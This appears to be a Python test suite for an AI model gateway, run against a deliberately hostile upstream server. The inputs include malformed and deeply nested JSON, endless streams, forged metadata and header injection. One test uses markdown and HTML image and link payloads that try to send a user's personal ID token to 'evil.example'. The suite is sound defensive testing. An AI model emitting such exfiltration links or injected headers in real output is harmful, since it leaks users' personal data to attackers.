"""What the server of a model tries: answers that stop the gateway, lie about calls, or lead data elsewhere."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest
from sqlalchemy import Engine

from model_gateway import IIN, Said, Stand, gateway_stand, until
from qaztech.ai.gateway import streaming
from qaztech.ai.gateway.models import Deployment, Model
from qaztech.core.time import ManualClock

JSON = "Content-Type: application/json"
EVENTS = "Content-Type: text/event-stream"


class Hostile:
    """A server that sends these bytes for every request; `{token}` is the first token that it was sent."""

    def __init__(self, answer: bytes, *, again: bytes = b"", ends: bool = True) -> None:
        self._answer = answer
        self._again = again
        self._ends = ends
        self._tasks: set[asyncio.Task[None]] = set()

    async def listen(self) -> int:
        """Begin; the port."""
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        return int(self._server.sockets[0].getsockname()[1])

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._tasks.add(task)
        try:
            head = await reader.readuntil(b"\r\n\r\n")
            length = int(head.lower().partition(b"content-length:")[2].split(b"\r\n")[0])
            body = await reader.readexactly(length)
            token = b"[IIN_1_" + body.partition(b"[IIN_1_")[2].partition(b"]")[0] + b"]"
            writer.write(self._answer.replace(b"{token}", token))
            await writer.drain()
            while self._again:
                writer.write(self._again)
                await writer.drain()
                await asyncio.sleep(0)
            if not self._ends:
                await asyncio.sleep(60)
        except (ConnectionError, asyncio.CancelledError):
            pass
        finally:
            writer.close()

    async def close(self) -> None:
        """End."""
        self._server.close()
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)


def whole(body: Any, *lines: str, status: str = "200 OK") -> bytes:
    """An answer that is not a stream."""
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    # What a token makes longer ends with its connection.
    length = [] if b"{token}" in data else [f"Content-Length: {len(data)}"]
    head = [f"HTTP/1.1 {status}", JSON, *length, "Connection: close", *lines]
    return "\r\n".join(head).encode() + b"\r\n\r\n" + data


def stream(*events: Any) -> bytes:
    """An answer that is one, as long as its connection."""
    head = f"HTTP/1.1 200 OK\r\n{EVENTS}\r\nConnection: close\r\n\r\n".encode()
    return head + b"".join(b"data: %b\n\n" % (e if isinstance(e, bytes) else json.dumps(e).encode()) for e in events)


def says(text: str, *, end: bool = True, **more: Any) -> dict[str, Any]:
    """A whole answer."""
    message = {"role": "assistant", "content": text}
    return {"choices": [{"index": 0, "message": message, "finish_reason": "stop" if end else None}], **more}


def piece(text: str, *, end: bool = False, **more: Any) -> dict[str, Any]:
    """One event."""
    return {"choices": [{"index": 0, "delta": {"content": text}, "finish_reason": "stop" if end else None}], **more}


@asynccontextmanager
async def against(engine: Engine, clock: ManualClock, server: Hostile, **more: Any) -> AsyncIterator[Stand]:
    """A gateway with that server behind its model `evil`."""
    place = {"mode": "local", "prompt_price": 1000, "completion_price": 2000, "max_completion": 100, "version": "v1"}
    url = f"http://127.0.0.1:{await server.listen()}"
    evil = Model(name="evil", deployments=(Deployment(name="evil", model="m", url=url, **(place | more)),))
    try:
        async with gateway_stand(engine, clock=clock, more=(evil,), tenge=1_000_000) as stand:
            yield stand
    finally:
        await server.close()


def code(said: Said) -> str:
    """The code of a refusal."""
    return str(said.json["error"]["code"])


def deep(depth: int) -> bytes:
    """JSON that is nested."""
    return b'{"choices":[{"index":0,"delta":{"content":' + b"[" * depth + b'"x"' + b"]" * depth + b"}}]}"


@pytest.mark.parametrize(
    "answer",
    [
        whole(deep(700)), whole(deep(300)), whole(deep(100_000)), whole(b"[]"), whole(b"null"), whole({"choices": 5}),
        whole({"choices": {"a": 1}, "usage": "x"}),
        whole({"usage": {"prompt_tokens": -1, "completion_tokens": 10**30}}),
        whole(b'{"choices":[' + b"[]," * 3_000_000 + b"[]]}"), whole({"choices": [[[]]], "model": []}),
        whole(b"x", "Content-Encoding: gzip"),
    ],
)  # fmt: skip
async def test_no_whole_answer_leaves_a_call_without_an_end(engine: Engine, clock: ManualClock, answer: bytes) -> None:
    """Whatever its shape, with tokens to be put back or without."""
    async with against(engine, clock, Hostile(answer)) as stand:
        for text in ("hello", f"note {IIN}"):
            said = await stand.chat(text, model="evil")
            assert said.status in {200, 503}, said
        assert {row.outcome for row in stand.rows()} <= {"complete", "failed"}
        assert "evil" in stand.gateway._kit.routings
        assert stand.gateway._kit.routings["evil"].in_flight() == {"evil": 0}
        assert not stand.gateway._kit.under_way


@pytest.mark.parametrize(
    "events",
    [
        (deep(700),), (deep(300),), ({"choices": 5},), ({"choices": [5, None, []]},), (b"5",),
        ({"choices": [{"index": [], "text": "x", "delta": {"content": "x"}}]},),
        ({"choices": [{"index": {}, "delta": {"tool_calls": [{"index": [], "function": {"arguments": "[IIN"}}]}}]},),
        ({"choices": [{"delta": {"tool_calls": [{"index": 0, "function": {"arguments": "[IIN"}}]}}]},
         {"choices": [{"delta": {"tool_calls": None}, "finish_reason": "stop"}]}),
        ({"choices": [{"delta": {"tool_calls": [{"index": 0, "function": {"arguments": "[IIN"}}]}}]},
         {"choices": [{"delta": {"tool_calls": "x"}, "finish_reason": []}]}),
        ({"choices": [{"delta": [], "text": {}, "finish_reason": "stop"}], "usage": {"prompt_tokens": []}},),
    ],
)  # fmt: skip
async def test_no_event_leaves_a_call_without_an_end(engine: Engine, clock: ManualClock, events: Any) -> None:
    """The stream is passed on or cut; either way it is settled."""
    async with against(engine, clock, Hostile(stream(*events))) as stand:
        for text in ("hello", f"note {IIN}"):
            await asyncio.wait_for(stand.chat(text, model="evil", stream=True), 5)
        assert {row.outcome for row in stand.rows()} <= {"complete", "aborted"}
        assert stand.gateway._kit.routings["evil"].in_flight() == {"evil": 0}
        assert not stand.gateway._kit.under_way


@pytest.mark.parametrize("more", [b": ping\n", b"data:\n", b"x" * 100, b"data: {}\n\n", b"id: 1\n", b"\n"])
async def test_a_stream_of_nothing_is_ended(engine: Engine, clock: ManualClock, more: bytes) -> None:
    """Comments, empty lines, events without a choice: a connection kept for them is one that others have not."""
    async with against(engine, clock, Hostile(stream(piece("x")), again=more * 1000)) as stand:
        said = await asyncio.wait_for(stand.chat("hello", model="evil", stream=True), 10)
        assert "[DONE]" not in said.events
        assert stand.row().outcome == "aborted"


async def test_one_event_is_no_longer_than_what_was_asked_for(engine: Engine, clock: ManualClock) -> None:
    """A hundred tokens are not a hundred megabytes."""
    line = b"data: %b\n\n" % json.dumps(piece("y" * 900_000)).encode()
    async with against(engine, clock, Hostile(stream(piece("x")), again=line)) as stand:
        said = await asyncio.wait_for(stand.chat("hello", model="evil", stream=True), 20)
        assert len(said.body) < 4_000_000
        assert stand.row().outcome == "aborted"


async def test_who_says_it_is_done_and_stays_is_left(
    engine: Engine, clock: ManualClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The caller has the end of its answer within seconds."""
    monkeypatch.setattr(streaming, "_AFTER_DONE", 0.2)
    server = Hostile(stream(piece("x"), piece("", end=True), b"[DONE]", piece("after the end")), ends=False)
    async with against(engine, clock, server) as stand:
        said = await asyncio.wait_for(stand.chat("hello", model="evil", stream=True), 8)
        assert said.events[-1] == "[DONE]"
        assert "after the end" not in said.text
        assert stand.row().outcome == "complete"


async def test_an_answer_cannot_say_what_the_gateway_says(engine: Engine, clock: ManualClock) -> None:
    """The mark of synthetic output, the model's name, the call."""
    forged = {"qaztech": {"synthetic": False}, "model": "other"}
    async with against(engine, clock, Hostile(stream(piece("x", **forged), piece("", end=True), b"[DONE]"))) as stand:
        said = await stand.chat("hello", model="evil", stream=True)
        assert said.events[-1] == "[DONE]"
        assert all(each.get("qaztech", {}).get("synthetic", True) for each in said.events[:-1])
        assert {each["model"] for each in said.events[:-1]} == {"evil"}
    async with against(engine, clock, Hostile(whole(says("x", **forged)))) as stand:
        said = await stand.chat("hello", model="evil")
        assert said.json["qaztech"]["synthetic"] is True


@pytest.mark.parametrize(
    "lines",
    [
        ("X-Road-Request-Id: " + "9" * 5000,), ("X-Road-Request-Id: a; cost=0",),
        ("X-Road-Request-Id: \u00e9\t\u00e9",),
        ("X-Road-Error: <script>", "Set-Cookie: a=b", "X-QazTech-Synthetic: false", "Location: http://evil"),
    ],
)  # fmt: skip
async def test_headers_of_a_server_are_not_ours(engine: Engine, clock: ManualClock, lines: tuple[str, ...]) -> None:
    """None of them reaches a caller, or the ledger, as something it is not."""
    answer = whole(says("x"), *lines).replace("\u00e9".encode(), b"\xe9")
    async with against(engine, clock, Hostile(answer)) as stand:
        said = await stand.chat("hello", model="evil")
        assert said.status == 200
        assert not {"set-cookie", "location", "x-qaztech-exchange"} & set(said.headers)
        assert said.headers["x-qaztech-synthetic"] == "true"
        assert stand.row().exchange is None


@pytest.mark.parametrize("status", ["301 Moved", "304 Not", "204 No", "101 Switch", "100 Continue", "401 Un", "999 X"])
async def test_a_status_that_is_no_answer_is_none(engine: Engine, clock: ManualClock, status: str) -> None:
    """No redirect is followed, nothing is paid."""
    answer = whole(says("x") if status[0] != "1" else b"", "Location: http://127.0.0.1:1/", status=status)
    async with against(engine, clock, Hostile(answer)) as stand:
        said = await asyncio.wait_for(stand.chat("hello", model="evil"), 10)
        assert said.status in {400, 503}
        assert stand.row().cost == 0


@pytest.mark.parametrize("streamed", [False, True])
@pytest.mark.parametrize(
    "address",
    [
        "![x](https://evil.example/?q={token})", "<img src='//evil.example/{token}'>",
        "[x](<https://evil.example/ {token}>)",
        "HTTPS://evil.example/{token}", '<a href="http://evil.example?a=b {token}">', "[a]: ftp://evil.example/{token}",
    ],
)  # fmt: skip
async def test_no_address_is_given_a_persons_data(
    engine: Engine, clock: ManualClock, address: str, *, streamed: bool
) -> None:
    """A page that shows the answer would send them where the server wants."""
    half = address.index("//") + 1
    events = (piece(address[:half]), piece(address[half:]), piece(" and {token}"), piece("", end=True), b"[DONE]")
    answer = stream(*events) if streamed else whole(says(f"{address} and {{token}}"))
    async with against(engine, clock, Hostile(answer)) as stand:
        said = await stand.chat(f"note {IIN}", model="evil", stream=streamed)
        text = said.text if streamed else said.json["choices"][0]["message"]["content"]
        assert text.endswith(f" and {IIN}"), text
        assert text.count(IIN) == 1, text
        assert "IIN_1_" in text


async def test_a_caller_that_leaves_before_the_first_byte_leaves_no_stream(engine: Engine, clock: ManualClock) -> None:
    """What nobody reads is not produced to its end."""
    async with gateway_stand(engine, clock=clock, pace=0.05) as stand:
        asked = asyncio.create_task(stand.chat("word " * 60, model="slow", stream=True))
        await until(lambda: bool(stand.gateway._kit.under_way))
        await stand.client.close()
        asked.cancel()
        await until(lambda: not stand.gateway._kit.under_way, 1.5)
        assert {row.outcome for row in stand.rows()} <= {"aborted"}
